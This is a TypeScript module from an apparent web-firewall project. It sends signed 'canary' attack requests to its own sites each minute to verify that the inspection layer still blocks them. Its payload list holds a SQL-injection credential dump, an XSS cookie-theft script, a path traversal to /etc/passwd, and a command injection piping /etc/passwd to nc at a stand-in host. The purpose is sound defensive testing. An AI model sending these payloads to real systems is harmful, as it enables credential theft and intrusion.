import { readFileSync } from 'node:fs'
import { request } from 'node:http'
import { request as secureRequest } from 'node:https'
import { join } from 'node:path'
import { canaryHeader, canaryIntervalSeconds, signCanary } from '@sevenfold/event'
import type { Clock, Timer } from '@sevenfold/layer'

/** An attack that any inspection must stop, as a request target. */
export interface CanaryAttack {
  readonly id: string
  readonly target: string
}

/** One of them is sent each minute; several, so that a rule for one of them cannot stand for all. */
export const canaryAttacks: readonly CanaryAttack[] = [
  { id: 'sqli-union', target: '/?canary=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20' },
  {
    id: 'xss-script',
    target: '/?canary=%3Cscript%3Edocument.location=%27//x.invalid/%27%2Bdocument.cookie%3C/script%3E',
  },
  { id: 'path-climb', target: '/?canary=../../../../../../etc/passwd' },
  { id: 'command-chain', target: '/?canary=%3Bcat%20/etc/passwd%7Cnc%20x.invalid%2080' },
]

/** A site's public address. */
export interface CanaryTarget {
  readonly host: string
  readonly port: number
  /** Host header that the site answers to. */
  readonly name: string
  /** True for a site with TLS. */
  readonly tls?: boolean
  /** Unix socket of the site, in place of host and port. */
  readonly path?: string
}

/** What sending needs. */
export interface CanaryOptions {
  /** The edge's key for marks; null while there is none. */
  readonly key: () => Uint8Array | null
  readonly targets: () => readonly CanaryTarget[]
  readonly clock: Clock
  readonly random: () => number
  readonly onFailure: (error: unknown) => void
}

/** A canary that has no answer by then is given up; the edge's result then grows old and counts as failed. */
const answerTimeoutMs = 10_000

/** Reads the key that the edge keeps for marks. */
export function readCanaryKey(dataDir: string): Uint8Array | null {
  try {
    return Buffer.from(readFileSync(join(dataDir, 'edge', 'keys', 'canary.key'), 'utf8').trim(), 'hex')
  } catch {
    return null // the edge has not started yet
  }
}

/** Sends one marked attack through the public path. The edge judges it like anybody's and notes what came of it. */
export function sendCanary(target: CanaryTarget, mark: string, attack: CanaryAttack): Promise<number> {
  return new Promise((resolve, reject) => {
    const ask = target.tls === true ? secureRequest : request
    const call = ask(
      {
        ...(target.path === undefined
          ? { host: target.host, port: target.port }
          : { socketPath: target.path }),
        // What is tested is the judgement; whether the certificate is good, its own expiry says.
        ...(target.tls === true ? { servername: target.name, rejectUnauthorized: false } : {}),
        path: attack.target,
        agent: false,
        timeout: answerTimeoutMs,
        headers: { host: target.name, 'user-agent': 'sevenfold-canary', [canaryHeader]: mark },
      },
      (answer) => {
        answer.resume()
        answer.once('end', () => resolve(answer.statusCode ?? 0))
        answer.once('error', reject)
      },
    )
    call.once('timeout', () => call.destroy(new Error('no answer')))
    call.once('error', reject)
    call.end()
  })
}

function pick<T>(items: readonly T[], random: () => number): T | undefined {
  return items[Math.floor(random() * items.length)]
}

async function sendOne(options: CanaryOptions): Promise<void> {
  const target = pick(options.targets(), options.random)
  const attack = pick(canaryAttacks, options.random)
  const key = options.key()
  if (target === undefined || attack === undefined || key === null) return
  const facts = {
    seconds: options.clock.now() / 1000,
    attack: attack.id,
    method: 'GET',
    target: attack.target,
  }
  await sendCanary(target, signCanary(key, facts), attack)
}

/**
 * Sends a canary every 60 s at a random moment of each minute, the first one soon: a layer that lives but lets attacks
 * through is found by what it does, not by what it says. Gives a function that ends it.
 */
export function startCanaries(options: CanaryOptions): () => void {
  const periodMs = canaryIntervalSeconds * 1000
  let timer: Timer | undefined
  let periodEndsAt = options.clock.monotonicMs()
  const plan = (afterMs: number): void => {
    timer = options.clock.after(afterMs, () => {
      sendOne(options).catch(options.onFailure)
      const now = options.clock.monotonicMs()
      periodEndsAt += periodMs
      plan(Math.max(0, periodEndsAt - now) + options.random() * periodMs)
    })
  }
  plan(1000)
  return () => timer?.cancel()
}
